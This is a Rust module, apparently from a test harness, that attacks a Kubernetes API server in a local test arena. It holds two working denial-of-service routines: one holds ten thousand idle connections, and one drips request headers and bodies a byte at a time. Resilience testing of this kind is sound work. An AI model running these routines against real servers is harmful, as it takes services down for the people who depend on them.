//! Connections that are held and not used, and those that are used as slowly as they may.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use kube::config::{KubeConfigOptions, Kubeconfig};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::sync::Semaphore;
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;
use tokio_rustls::rustls::crypto::ring;
use tokio_rustls::rustls::pki_types::{CertificateDer, ServerName};
use tokio_rustls::rustls::{ClientConfig, RootCertStore};

use super::Attack;
use super::arena::Arena;

/// How many connections are held, where so many files may be open.
const CONNECTIONS: u64 = 10_000;
/// How long who was sent away stays there.
const AWAY: Duration = Duration::from_secs(20);
/// What this process needs of its own.
const SPARE: u64 = 500;
/// How many send as slowly as they may.
const SLOW: usize = 150;
/// How long the server has to refuse a connection or a request that is too slow, which nobody waits for here.
const LONG: Duration = Duration::from_secs(600);

/// Ten thousand connections that say nothing, each opened again when the server has closed it.
pub(super) fn idle(arena: &Arena, files: u64) -> Attack {
    let (address, count) = (arena.address(), CONNECTIONS.min(files.saturating_sub(SPARE)));
    println!("{count} idle connections");
    let mut attack = Attack::new("idle connections");
    // The queue of the listener is no longer than this.
    let opening = Arc::new(Semaphore::new(64));
    let (held, told) = (Arc::new(AtomicU64::new(0)), attack.told.clone());
    for _ in 0..count {
        let (address, opening, held, told) = (address.clone(), opening.clone(), held.clone(), told.clone());
        attack.at_work.spawn(async move {
            loop {
                let permit = opening.acquire().await.expect("it is open");
                let Ok(mut stream) = TcpStream::connect(&address).await else { continue };
                drop(permit);
                if held.fetch_add(1, Ordering::Relaxed) + 1 >= count {
                    told.store(1, Ordering::Relaxed);
                }
                let _closed = stream.read(&mut [0]).await;
                // Who is sent away comes back, and not at once.
                tokio::time::sleep(AWAY).await;
            }
        });
    }
    attack
}

async fn connector(arena: &Arena) -> TlsConnector {
    let kubeconfig = Kubeconfig::read_from(arena.kubeconfig()).expect("a kubeconfig");
    let config = kube::Config::from_custom_kubeconfig(kubeconfig, &KubeConfigOptions::default()).await;
    let authorities = config.expect("a whole kubeconfig").root_cert.expect("the authority of the server");
    let mut roots = RootCertStore::empty();
    for authority in authorities {
        roots.add(CertificateDer::from(authority)).expect("a certificate");
    }
    let config = ClientConfig::builder_with_provider(Arc::new(ring::default_provider()))
        .with_safe_default_protocol_versions()
        .expect("versions of TLS")
        .with_root_certificates(roots)
        .with_no_client_auth();
    TlsConnector::from(Arc::new(config))
}

async fn connect(connector: &TlsConnector, address: &str) -> std::io::Result<TlsStream<TcpStream>> {
    let name = ServerName::try_from("127.0.0.1").expect("a name");
    connector.connect(name, TcpStream::connect(address).await?).await
}

/// Heads and bodies that come a byte at a time, half of each.
pub(super) async fn slow(arena: &Arena) -> Attack {
    let (connector, address, token) = (connector(arena).await, arena.address(), arena.token.clone());
    let attack = Attack::new("slow heads and bodies");
    let told = attack.told.clone();
    attack.by(SLOW, Duration::from_millis(100), move |number| {
        let (connector, address, token) = (connector.clone(), address.clone(), token.clone());
        let told = told.clone();
        async move {
            let Ok(mut stream) = connect(&connector, &address).await else { return };
            let body = "content-type: application/json\r\ncontent-length: 100000\r\n\r\n{\"metadata\": {\"name\": \"";
            let rest = if number % 2 == 0 { body } else { "x-slow: " };
            let head = format!(
                "POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {token}\r\n{rest}"
            );
            if stream.write_all(head.as_bytes()).await.is_err() {
                return;
            }
            told.fetch_add(1, Ordering::Relaxed);
            let mut heard = [0; 1024];
            let dripping = async {
                while stream.write_all(b"a").await.is_ok() && stream.flush().await.is_ok() {
                    tokio::time::sleep(Duration::from_millis(200)).await;
                }
                // What it says to that, if it says anything.
                let _said = stream.read(&mut heard).await;
            };
            let _ended = tokio::time::timeout(LONG, dripping).await;
        }
    })
}
